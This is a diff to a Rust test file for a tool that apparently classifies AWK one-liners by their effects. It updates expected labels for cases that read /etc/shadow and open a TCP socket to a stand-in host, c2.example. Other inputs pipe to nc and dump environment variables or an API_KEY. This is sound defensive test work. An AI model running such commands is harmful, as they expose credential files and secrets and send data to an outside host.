@@ -92,7 +92,7 @@ fn files() {
             ("BEGIN { getline $(i+1) < \"f\" }", &["read f"]),
             ("BEGIN { getline x < ARGV[1] }", &["unknown", "unknown"]),
             ("BEGIN { getline x < file }", &["unknown"]),
-            ("BEGIN { ARGV[1] = \"/etc/shadow\"; ARGC = 2 }", &["unknown"]),
+            ("BEGIN { ARGV[1] = \"/etc/shadow\"; ARGC = 2 }", &["unknown", "read /etc/shadow"]),
         ],
     );
 }
@@ -120,7 +120,10 @@ fn runs() {
             ("BEGIN { x = \"date\" | getline }", &["execute"]),
             ("BEGIN { print \"x\" |& \"nc h 1\" }", &["execute"]),
             ("{ print (\"id\" | getline) }", &["shell id"]),
-            ("BEGIN { s = \"/inet/tcp/0/c2.example/80\"; print |& s }", &["send c2.example", "execute", "execute"]),
+            (
+                "BEGIN { s = \"/inet/tcp/0/c2.example/80\"; print |& s }",
+                &["send c2.example", "execute", "execute", "read /inet"],
+            ),
             ("BEGIN { for (k in ENVIRON) print k, ENVIRON[k] }", &["reveal environment"]),
             ("BEGIN { print ENVIRON[\"API_KEY\"] }", &["reveal variable API_KEY"]),
             ("BEGIN { print ENVIRON[x] }", &["reveal environment"]),
